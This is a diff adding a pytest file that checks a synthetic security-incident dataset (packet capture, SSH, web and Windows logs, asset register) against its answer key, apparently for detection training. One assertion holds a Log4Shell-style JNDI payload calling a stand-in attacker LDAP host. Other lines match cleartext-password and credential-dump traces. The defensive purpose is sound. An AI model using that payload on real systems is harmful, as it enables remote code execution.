@@ -1,0 +1,130 @@
+"""The story: every scene of truth.json can be seen in the files it names, under its unit."""
+
+import csv
+import json
+import re
+from collections import Counter
+from datetime import datetime
+from itertools import pairwise
+from statistics import mean
+
+import dns.message
+import pytest
+
+from taishi.sample.week import SampleWeek
+
+STORY = {
+    "beacon": ("compromised", "high"),
+    "dns_tunnel": ("compromised", "high"),
+    "port_scan": ("attempted", "medium"),
+    "ssh_guessing": ("attempted", "medium"),
+    "ssh_broken_in": ("compromised", "high"),
+    "web_exploits": ("attempted", "high"),
+    "sql_injection": ("attempted", "high"),
+    "clear_text_ftp": ("risk", "medium"),
+    "clear_text_basic": ("risk", "medium"),
+    "lsass_dump": ("compromised", "high"),
+}
+
+
+@pytest.fixture(scope="session")
+def register(week: SampleWeek) -> list[dict[str, str]]:
+    with week.register.open(encoding="utf-8-sig", newline="") as file:
+        return list(csv.DictReader(file))
+
+
+def log_text(week: SampleWeek, name: str) -> str:
+    return next(path for path in week.logs if path.name == name).read_text("utf-8")
+
+
+def test_truth_is_complete(truth: list[dict], week: SampleWeek) -> None:
+    assert {scene["scene"]: (scene["class"], scene["level"]) for scene in truth} == STORY
+    files = {week.pcap.name, *(path.name for path in week.logs)}
+    for scene in truth:
+        assert scene["what"]["zh"]
+        assert scene["what"]["en"]
+        assert set(scene["seen_in"]) <= files
+        assert datetime.fromisoformat(scene["first_seen"]) < datetime.fromisoformat(scene["last_seen"])
+        if scene["class"] == "attempted":
+            assert scene["attackers"]
+
+
+def test_every_subject_is_in_the_register_under_its_unit(
+    truth: list[dict], register: list[dict[str, str]]
+) -> None:
+    owners = {row["IP地址"]: row["单位名称"] for row in register}
+    owners |= {row["主机名"]: row["单位名称"] for row in register if row["主机名"]}
+    for scene in truth:
+        assert owners[scene["subject"]] == scene["unit"]
+
+
+def test_the_register_holds_six_units_and_the_bureau(register: list[dict[str, str]]) -> None:
+    assert len({row["单位名称"] for row in register}) == 7
+    assert {row["层级"] for row in register} == {"线路接入", "云平台", "业务系统"}
+    assert all(re.fullmatch(r"0555-555\d{4}", row["联系电话"]) for row in register)
+
+
+def test_the_beacon_keeps_its_rhythm_for_three_days(packets: list) -> None:
+    calls = [packet.at for packet in packets if packet.target == "198.51.100.7" and packet.flags == 0x02]
+    gaps = [later - earlier for earlier, later in pairwise(calls)]
+    assert calls[-1] - calls[0] > 2.9 * 86400
+    assert all(113.9 < gap < 126.1 for gap in gaps)
+    assert mean(gaps) == pytest.approx(120, abs=0.5)
+
+
+def test_the_tunnel_asks_for_thousands_of_long_names(packets: list) -> None:
+    asked = [
+        dns.message.from_wire(packet.payload).question[0]
+        for packet in packets
+        if packet.source == "10.34.4.31" and packet.target_port == 53
+    ]
+    tunnel = [str(question.name) for question in asked if str(question.name).endswith(".s1.example.org.")]
+    assert len(tunnel) == len(set(tunnel)) == 2600
+    assert min(map(len, tunnel)) > 70
+
+
+def test_the_scan_tries_hundreds_of_ports(packets: list) -> None:
+    tried = [p.target_port for p in packets if p.source == "203.0.113.9" and p.flags == 0x02]
+    answers = Counter(p.flags for p in packets if p.target == "203.0.113.9")
+    assert len(set(tried)) == len(tried) == 420
+    assert answers[0x12] == 2
+    assert 200 < answers[0x14] < 418
+
+
+def test_one_ssh_guesser_fails_and_the_other_gets_in(week: SampleWeek) -> None:
+    failed, broken = (log_text(week, name) for name in ("sshd-wjw-app01.log", "sshd-zrzy-gis01.log"))
+    assert failed.count("Failed password") > 600
+    assert not re.search(r"Accepted \w+ for \w+ from 203\.0\.113\.77", failed)
+    success = broken.index("Accepted password for gisadmin from 198.51.100.99")
+    assert broken[:success].count("from 198.51.100.99 port") > 300
+    assert "useradd" in broken[success:]
+    assert "COMMAND=/usr/sbin/useradd" not in broken[:success]
+
+
+def test_web_attacks_are_refused(week: SampleWeek, packets: list) -> None:
+    lines = log_text(week, "access-portal.log").splitlines()
+    attacks = [line for line in lines if line.startswith(("203.0.113.66 ", "198.51.100.61 "))]
+    assert len(attacks) == 40
+    assert all(re.search(r'" (403|404) \d+ "', line) for line in attacks)
+    assert sum(b"${jndi:ldap://203.0.113.66:1389/a}" in packet.payload for packet in packets) == 5
+
+
+def test_windows_events_count_up_and_end_in_the_dump(week: SampleWeek) -> None:
+    lines = log_text(week, "windows-WIN-HFZ-01.jsonl").splitlines()
+    systems = [json.loads(line)["Event"]["System"] for line in lines]
+    times = [system["TimeCreated"]["#attributes"]["SystemTime"] for system in systems]
+    assert [system["EventRecordID"] for system in systems] == list(range(1, len(lines) + 1))
+    assert times == sorted(times)
+    accesses = Counter(
+        event["EventData"]["GrantedAccess"]
+        for event in (json.loads(line)["Event"] for line in lines)
+        if event["System"]["EventID"] == 10
+    )
+    assert accesses["0x1fffff"] == accesses["0x1010"] == 1
+    assert accesses["0x1000"] > 10
+
+
+def test_passwords_cross_the_wire_in_the_clear_only_in_the_story(packets: list, truth: list[dict]) -> None:
+    told = {peer for scene in truth if scene["scene"].startswith("clear_text") for peer in scene["peers"]}
+    bare = re.compile(rb"^PASS |\r\nAuthorization: Basic ")
+    assert {packet.source for packet in packets if bare.search(packet.payload)} == told
